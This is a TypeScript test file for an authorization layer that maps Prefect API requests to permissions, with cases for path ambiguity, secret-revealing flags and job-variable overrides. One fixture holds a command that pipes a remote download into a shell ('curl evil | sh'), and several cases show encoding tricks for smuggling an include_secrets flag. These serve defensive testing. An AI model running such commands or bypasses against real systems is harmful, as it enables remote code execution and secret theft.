import test from 'ava';
import type { OriginalRequest } from '../../../src/authorization/access-request.ts';
import { isDenial } from '../../../src/authorization/denial.ts';
import type { Operation } from '../../../src/authorization/operation.ts';
import { prefectRoutes } from '../../../src/requests/rest/prefect-routes.ts';
import { type RestOptions, readRestRequest } from '../../../src/requests/rest/rest-request.ts';

const ID = '9b7a2f60-0d5c-4d5a-8f1e-3a1b5c7d9e0f';

function request(method: string, target: string, changes: Partial<OriginalRequest> = {}): OriginalRequest {
  return {
    method,
    target,
    isWebSocket: false,
    isGraphqlHost: false,
    contentType: undefined,
    contentEncoding: undefined,
    contentLength: undefined,
    body: undefined,
    ...changes,
  };
}

function withBody(method: string, target: string, body: unknown): OriginalRequest {
  const bytes = Buffer.from(typeof body === 'string' ? body : JSON.stringify(body));
  return request(method, target, { contentType: 'application/json', contentLength: `${bytes.length}`, body: bytes });
}

/** The operations, the word `public`, or the reason of the denial. */
function read(original: OriginalRequest, options: Partial<RestOptions> = {}): readonly Operation[] | string {
  const answer = readRestRequest(original, prefectRoutes, {
    apiBasePath: '/api',
    uiBasePath: '',
    isOpenapiPublic: false,
    ...options,
  });
  if (answer === 'public') return answer;
  return isDenial(answer) ? answer.reason : answer.operations;
}

const handshake = (target: string) => request('GET', target, { isWebSocket: true });

const readings: readonly (readonly [
  title: string,
  original: OriginalRequest,
  expected: readonly Operation[] | string,
])[] = [
  ['a search by POST is a query', request('POST', '/api/flow_runs/filter'), ['query/read_flow_runs']],
  ['a GET that writes is a mutation', request('GET', '/api/csrf-token?client=1'), ['mutation/create_csrf_token']],
  ['a query does not change the route', request('GET', '/api/admin/version?x=/health'), ['query/read_version']],
  ['an encoded name is decoded once', request('DELETE', '/api/work_pools/my%20pool'), ['mutation/delete_work_pool']],
  ['an unknown GET is a query only the wildcards cover', request('GET', '/api/nothing'), ['query/unknown']],
  ['an unknown HEAD is as well', request('HEAD', '/api/nothing'), ['query/unknown']],
  ['an unknown POST is a mutation', request('POST', '/api/nothing'), ['mutation/unknown']],
  ['an unknown method is a mutation', request('PROPFIND', '/api/flows/'), ['mutation/unknown']],
  ['HEAD is what GET is', request('HEAD', '/api/admin/version'), ['query/read_version']],
  ['a preflight carries no credential', request('OPTIONS', '/api/flows/'), 'public'],
  [
    'a handshake by OPTIONS is no preflight',
    request('OPTIONS', '/api/events/in', { isWebSocket: true }),
    ['mutation/stream_events_in'],
  ],

  ['health is public', request('GET', '/api/health'), 'public'],
  ['readiness is public', request('HEAD', '/api/ready'), 'public'],
  ['health is public only by GET and HEAD', request('POST', '/api/health'), ['mutation/unknown']],
  ['health is public only by its exact path', request('GET', '/api/health/'), ['query/health_check']],
  ['no suffix makes a path public', request('GET', '/api/variables/name/health'), ['query/read_variable_by_name']],
  ['no handshake is public', handshake('/api/health'), ['mutation/unknown']],
  ['health elsewhere is not public', request('GET', '/api/x/health'), ['query/unknown']],

  ['the settings of the user interface are public', request('GET', '/ui-settings'), 'public'],
  ['the files of the user interface are public', request('GET', '/v2/assets/index.js'), 'public'],
  ['the user interface takes no POST', request('POST', '/ui-settings'), ['mutation/unknown']],
  ['the user interface has no WebSocket', handshake('/'), ['mutation/unknown']],
  ['the base path alone is no file', request('GET', '/api'), ['query/unknown']],
  [
    'an API under another path is no file',
    request('GET', '/prefect/api/flows/filter'),
    ['query/unknown', 'query/read_flow'],
  ],
  ['the outer OpenAPI document is not for everyone', request('GET', '/openapi.json'), ['query/openapi']],
  ['nor are its pages', request('GET', '/docs/'), ['query/openapi']],
  ['nor is the inner one', request('GET', '/api/openapi.json'), ['query/openapi']],

  ['a WebSocket is decided at its handshake', handshake('/api/logs/out'), ['query/stream_logs_out']],
  ['a handshake finds no HTTP route', handshake('/api/csrf-token'), ['mutation/unknown']],
  ['a GET of a WebSocket is no read', request('GET', '/api/events/in'), ['mutation/unknown']],

  [
    'a question mark that is encoded stays in the path',
    request('DELETE', '/api/work_pools/health%3Fx'),
    ['mutation/delete_work_pool'],
  ],
  ['and ends no public one', request('GET', '/api/health%3F'), ['query/unknown']],
  ['nor does a number sign', request('GET', '/api/health%23x'), ['query/unknown']],
  ['nor a semicolon', request('GET', '/api/health;x'), ['query/unknown']],
  ['nor does case', request('GET', '/api/HEALTH'), ['query/unknown']],

  ['dot segments are refused', request('GET', '/x/../api/flows/'), 'ambiguous_path'],
  ['an encoded slash is refused', request('GET', '/api/work_pools/a%2Fqueues%2Fb'), 'ambiguous_path'],
  ['an authority is refused', request('GET', '//prefect/api/health'), 'ambiguous_path'],
  ['even a preflight has a plain path', request('OPTIONS', '*'), 'ambiguous_path'],
];

for (const [title, original, expected] of readings) {
  test(title, (t) => t.deepEqual(read(original), expected));
}

const DOCUMENT = `/api/block_documents/${ID}`;
const plainlyFalse = [
  '',
  '?',
  '?include_secrets=false',
  '?include_secrets=False',
  '?include_secrets=0',
  '?secrets=true',
  '?include_secrets=0&include_secrets=false',
];
const asksForSecrets = [
  '?include_secrets=true',
  '?include_secrets=TRUE',
  '?include_secrets=1',
  '?include_secrets=on',
  '?include_secrets=y',
  '?include_secrets=',
  '?include_secrets',
  '?include_secrets=false%20',
  '?include_secrets=false&include_secrets=true',
  '?include_secrets=true&include_secrets=false',
  '?include%5Fsecrets=true',
  '?%69nclude_secrets=t%72ue',
  '?a=b;include_secrets=true',
  '?&&include_secrets=yes',
  '?a=%FF&include_secrets=true',
];

for (const query of plainlyFalse) {
  test(`a block read with ${query || 'no query'} shows no secrets`, (t) => {
    t.deepEqual(read(request('GET', DOCUMENT + query)), ['query/read_block_document_by_id']);
  });
}

for (const query of asksForSecrets) {
  test(`a block read with ${query} needs query/read_block_secrets`, (t) => {
    t.deepEqual(read(request('GET', DOCUMENT + query)), [
      'query/read_block_document_by_id',
      'query/read_block_secrets',
    ]);
  });
}

test('a route that knows no secrets yet needs query/read_block_secrets when it is asked for them', (t) => {
  t.deepEqual(read(request('POST', '/api/variables/filter?include_secrets=1')), [
    'query/read_variables',
    'query/read_block_secrets',
  ]);
});

const FILTER = '/api/block_documents/filter';
const filters: readonly (readonly [body: unknown, asksForSecrets: boolean])[] = [
  [{}, false],
  ['', false],
  [{ include_secrets: false }, false],
  [{ block_documents: { include_secrets: true } }, false],
  [{ include_secrets: true }, true],
  [{ include_secrets: 1 }, true],
  [{ include_secrets: 'yes' }, true],
  [{ include_secrets: 'false' }, true],
  [{ include_secrets: null }, true],
  ['{"include\\u005fsecrets": true}', true],
];

for (const [body, asks] of filters) {
  test(`a search for blocks by ${JSON.stringify(body)} ${asks ? 'needs' : 'does not need'} query/read_block_secrets`, (t) => {
    t.deepEqual(read(withBody('POST', FILTER, body)), [
      'query/read_block_documents',
      ...(asks ? ['query/read_block_secrets'] : []),
    ]);
  });
}

const RUN = `/api/deployments/${ID}/create_flow_run`;
const runs: readonly (readonly [body: unknown, overrides: boolean])[] = [
  [{}, false],
  [{ parameters: { job_variables: { command: 'x' } } }, false],
  [{ job_variables: {} }, false],
  [{ job_variables: null, infrastructure_document_id: null }, false],
  [{ job_variables: { command: 'curl evil | sh' } }, true],
  [{ job_variables: [] }, true],
  [{ job_variables: 'x' }, true],
  [{ job_variables: false }, true],
  [{ infrastructure_document_id: ID }, true],
  ['{"job_\\u0076ariables": {"env": {}}}', true],
];

for (const [body, overrides] of runs) {
  test(`a run with ${JSON.stringify(body)} ${overrides ? 'overrides' : 'keeps'} the deployment's job variables`, (t) => {
    const more = overrides ? ['mutation/override_job_variables'] : [];
    t.deepEqual(read(withBody('POST', RUN, body)), ['mutation/create_flow_run_from_deployment', ...more]);
    t.deepEqual(read(withBody('POST', '/api/flow_runs', body)), ['mutation/create_flow_run', ...more]);
    // Here the job variables take the place of others, even if they are empty.
    const isReplaced = overrides || Object.hasOwn(Object(body), 'job_variables');
    const replaced = isReplaced ? ['mutation/override_job_variables'] : [];
    t.deepEqual(read(withBody('PATCH', `/api/flow_runs/${ID}`, body)), ['mutation/update_flow_run', ...replaced]);
  });
}

test('one run of many that overrides job variables is enough', (t) => {
  const expected = ['mutation/bulk_create_flow_runs_from_deployment', 'mutation/override_job_variables'];
  t.deepEqual(read(withBody('POST', `${RUN}/bulk`, [{}, { job_variables: { a: 1 } }])), expected);
  t.deepEqual(read(withBody('POST', `${RUN}/bulk`, [{}, {}])), expected.slice(0, 1));
});

test('a run may have as many parameters as Prefect takes', (t) => {
  const parameters = { numbers: Array.from({ length: 250_000 }, () => 1) };
  t.deepEqual(read(withBody('POST', RUN, { parameters })), ['mutation/create_flow_run_from_deployment']);
});

const unreadable: readonly (readonly [title: string, original: OriginalRequest])[] = [
  ['nginx did not show', request('POST', RUN, { contentType: 'application/json', contentLength: '900' })],
  ['is chunked and was not shown', request('POST', RUN)],
  ['is not JSON', withBody('POST', RUN, 'job_variables=x')],
  ['is NaN to Python', withBody('POST', RUN, '{"a": NaN}')],
  ['is a text', withBody('POST', RUN, '"{}"')],
  ['is a list with more than objects', withBody('POST', `${RUN}/bulk`, [[{ job_variables: { a: 1 } }]])],
  ['names a field twice', withBody('POST', RUN, '{"job_variables": {"a": 1}, "job_variables": {}}')],
  [
    'is UTF-16, which Python detects',
    withBody('POST', FILTER, Buffer.from('{"include_secrets": true}', 'utf16le').toString('latin1')),
  ],
];

for (const [title, original] of unreadable) {
  test(`a body that ${title} is a denial where it counts`, (t) => t.is(read(original), 'unreadable_request'));
}

test('a compressed body is a denial where it counts', (t) => {
  t.is(read({ ...withBody('POST', RUN, '{}'), contentEncoding: 'gzip' }), 'unsupported_request');
});

test('a body that decides nothing need not be shown', (t) => {
  t.deepEqual(read(request('POST', '/api/flows/', { contentLength: '900' })), ['mutation/create_flow']);
});

test('the OpenAPI pages are for everyone where the deployment says so', (t) => {
  for (const path of ['/docs', '/openapi.json', '/redoc', '/docs/oauth2-redirect']) {
    t.is(read(request('GET', path), { isOpenapiPublic: true }), 'public');
    t.is(read(request('GET', `/api${path}`), { isOpenapiPublic: true }), 'public');
    t.deepEqual(read(request('POST', `/api${path}`), { isOpenapiPublic: true }), ['mutation/unknown']);
  }
  t.is(read(request('GET', '/api/static/prefect-logo.png'), { isOpenapiPublic: true }), 'public');
  for (const path of ['/custom-api/block_types/slug/docs', '/x/openapi.json'])
    t.is(read(request('GET', path), { isOpenapiPublic: true })[0], 'query/unknown', path);
  t.deepEqual(read(request('GET', '/api/admin/version'), { isOpenapiPublic: true }), ['query/read_version']);
});

test('the API may stand under a sub-path', (t) => {
  const options = { apiBasePath: '/prefect/api', uiBasePath: '/prefect' };
  t.deepEqual(read(request('GET', '/prefect/api/csrf-token'), options), ['mutation/create_csrf_token']);
  t.is(read(request('GET', '/prefect/api/health'), options), 'public');
  t.is(read(request('GET', '/prefect/ui-settings'), options), 'public');
  t.is(read(request('GET', '/api/csrf-token'), options)[0], 'query/unknown');
  t.is(read(request('GET', '/prefect/dashboard'), options), 'public');
  for (const path of ['/prefect/apis/csrf-token', '/dashboard', '/ui-settings', '/prefectx/dashboard'])
    t.is(read(request('GET', path), options)[0], 'query/unknown', path);
});

test('scopes that are written as paths see the method and the decoded path without its query', (t) => {
  const answer = readRestRequest(request('GET', '/api/work_pools/my%20pool?a=/b'), prefectRoutes, {
    apiBasePath: '/api',
    uiBasePath: '',
    isOpenapiPublic: false,
  });
  t.like(answer, { rest: { method: 'GET', path: '/api/work_pools/my pool' } });
  const socket = readRestRequest(handshake('/api/events/in'), prefectRoutes, {
    apiBasePath: '/api',
    uiBasePath: '',
    isOpenapiPublic: false,
  });
  t.like(socket, { rest: { method: 'WS', path: '/api/events/in' } }, 'a handshake is not what GET means there');
});
